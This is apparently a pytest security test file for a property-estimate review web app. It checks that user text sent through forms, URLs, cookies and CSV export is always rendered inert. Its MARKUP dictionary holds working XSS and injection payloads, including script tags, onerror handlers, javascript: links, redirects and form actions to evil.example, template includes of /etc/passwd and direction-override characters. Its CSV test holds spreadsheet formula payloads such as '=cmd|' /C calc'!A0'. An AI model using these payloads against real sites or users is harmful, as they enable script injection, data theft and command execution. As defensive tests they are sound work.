"""Attacks by what pages show: every text that somebody sends stays a text.

A page is read as a browser reads it: what of it could run, load or lead elsewhere is named by
`dangers_of`, and must be nothing.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from attack_target import Answer, Inert, Target, attacked, dangers_of
from served_pages import row

from qconf.review.defused import defused_table
from qconf.review.export import corrections_of

#: Markup of many kinds; each would be seen by a browser if it were not escaped.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "closing tags": "</textarea></title></style></script><script src=//evil.example/x.js></script>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "apostrophe": "' onmouseover='alert(1)",
    "picture": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "link": '<a href="javascript:alert(1)">x</a><base href=//evil.example/>',
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "form": "<form action=//evil.example><input name=form_token>",
    "style": "<style>@import '//evil.example'</style><b style=\"x:y\">",
    "template": "{{ 70001 * 3 }}{% include '/etc/passwd' %}${70001*3}<%= 70001*3 %>",
    "comment": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "wide": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "formulas": "$\\frac{1}{0}$ $x^{2 $ \\$ $$",
    "directions": "\u202egnp.exe\u2066 \u200b\u00ad\ufeff",
}
#: Those that are tried always; the others take their time.
FIRST = ("attribute", "formulas", "script")
MARKUPS = pytest.mark.parametrize(
    "text",
    [
        pytest.param(text, id=name, marks=[] if name in FIRST else pytest.mark.slow)
        for name, text in MARKUP.items()
    ],
)


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with attacked(tmp_path_factory.mktemp("pages")) as made:
        yield made


def inert(page: Answer, *texts: str) -> None:
    """Check that a page does nothing but what it means to, and shows some texts as they are."""
    assert page.status < 500, page.text[:300]
    assert page["content-type"].startswith("text/html")
    assert not dangers_of(page.text)
    assert "script-src 'self'" in page["content-security-policy"]
    assert "210003" not in page.text
    assert "root:" not in page.text
    for text in texts:
        shown = " ".join(texts_of(page).split())
        if text.isascii():
            assert " ".join(text.split()) in shown, text
        else:  # what does not print, or not where it stands, is written out
            assert not {"\u202e", "\u2066", "\u200b"} & set(shown)


def texts_of(page: Answer) -> str:
    read = Inert()
    read.feed(page.text)
    return "".join(read.texts)


@pytest.mark.slow
@MARKUPS
def test_what_is_said_of_an_estimate_is_text(target: Target, text: str) -> None:
    """Who, words, comparables and corrected inputs; also where they cannot be kept."""
    name = target.known
    said = {
        "who": text, "reason": "wrong_input", "text": text, "comparables": [text],
        "corrected": {"zone": text},
    }  # fmt: skip
    assert target.post(f"/estimates/{name}/feedback", said).status == 201
    inert(target.page(f"/estimates/{name}"), text)
    form = {"who": text, "reason": "other", "text": text, "comparables": text, "input:zone": text}
    sent = target.send_form(f"/estimates/{name}/feedback", **form)
    assert sent.status == 303, sent.text[:500]
    inert(target.page(sent["location"].partition("#")[0]), text)
    inert(
        target.send_form(
            f"/estimates/{name}/feedback", **{**form, "reason": text, "own_value": text}
        )
    )
    inert(target.page("/summary"))
    inert(target.page("/summary?by=zone"))


@pytest.mark.slow
@MARKUPS
def test_a_row_is_text(target: Target, text: str) -> None:
    """Its inputs and its key, on its page, in its explanation, and where it cannot be estimated."""
    name = target.estimate(zone=text, house=text)
    inert(target.page(f"/estimates/{name}"), text)
    typed = {f"input:{column}": str(value) for column, value in row().items()}
    sent = target.send_form("/estimates", **{**typed, "input:zone": text, "input:house": text})
    assert sent.status == 303
    inert(target.page(sent["location"]), text)
    inert(target.send_form("/estimates", **{**typed, "input:area": text, "input:sold": text}))


@pytest.mark.slow
@MARKUPS
def test_what_is_decided_is_text(target: Target, text: str) -> None:
    """On the page of the case, in the queue, and in the summary."""
    case = target.case
    before = target.store.decisions(case)
    said = {"who": text, "reason": "wrong_input", "text": text, "corrected": {"zone": text}}
    told = {**said, "supersedes": before[-1].id} if before else said
    assert target.post(f"/review/{case}/decision", told).status == 201
    inert(target.page(f"/review/{case}"), text)
    inert(target.page("/review?state=all"))
    inert(target.page("/summary"))
    form = {"who": text, "reason": text, "text": text, "own_value": text, "queue": text}
    inert(target.send_form(f"/review/{case}/decision", **form))


@MARKUPS
def test_who_has_a_case_open_is_text(target: Target, text: str) -> None:
    """In the queue, and where somebody else wants to open it."""
    case = int(target.store.cases(decided=False)[-1].id)
    lock = target.store.case(case).lock
    if lock is not None:
        target.post(f"/review/{case}/release", {"who": lock.who})
    assert target.post(f"/review/{case}/lock", {"who": text}).status == 200
    inert(target.page("/review?state=all"))
    inert(target.page(f"/review/{case}"))
    inert(target.send_form(f"/review/{case}/lock", who="another"))


@pytest.mark.slow
@MARKUPS
def test_what_stands_in_an_address_is_text(target: Target, text: str) -> None:
    """Filters, ids, notes of what was done, and addresses that are not there."""
    from urllib.parse import quote  # noqa: PLC0415

    name, written = target.known, quote(text)
    for path in (
        f"/review?source={written}", f"/review?order={written}", f"/review?state={written}",
        f"/review?by={written}", f"/review?by=zone&slice={written}", f"/review?page={written}",
        f"/review?done={written}", f"/review?reason={written}", f"/summary?by={written}",
        f"/estimates/{name}?said={written}", f"/estimates/{name}?said=1&then={written}",
        f"/estimates/{written}", f"/review/{written}", f"/{written}", f"/static/{written}",
        f"/review/{target.case}?{written}={written}", f"/review/{target.case}?done={written}",
    ):  # fmt: skip
        told = target.page(path)
        if told["content-type"].startswith("text/html"):
            inert(told)
        else:
            assert told["content-type"].startswith("text/plain")
            assert told["x-content-type-options"] == "nosniff"


@MARKUPS
def test_a_cookie_is_text(target: Target, text: str) -> None:
    """The name that a browser remembers stands in a field of its pages."""
    from urllib.parse import quote  # noqa: PLC0415

    cookies = {"cookie": f"qconf_name={quote(text)}; qconf_session={quote(text)}"}
    for path in ("/", "/review", f"/review/{target.case}", f"/estimates/{target.known}"):
        inert(target.page(path, cookies))


def test_formulas_are_text_where_what_was_said_leaves_as_a_csv(target: Target) -> None:
    """Whatever a cell begins with: a spreadsheet runs none of it."""
    formulas = ["=cmd|' /C calc'!A0", "+1+1", "-1+cmd", "@SUM(A1)", "\t=1", " =1", "\uff1dcmd"]
    for text in formulas:
        said = {"who": text, "reason": "other", "text": text, "comparables": [text]}
        assert target.post(f"/estimates/{target.known}/feedback", said).status == 201
    table = corrections_of(target.store)
    cells = defused_table(table[table["text"].isin(formulas)])[["who", "text"]].stack()
    assert len(cells) >= 2 * len(formulas)
    assert cells.str.startswith("'").all()
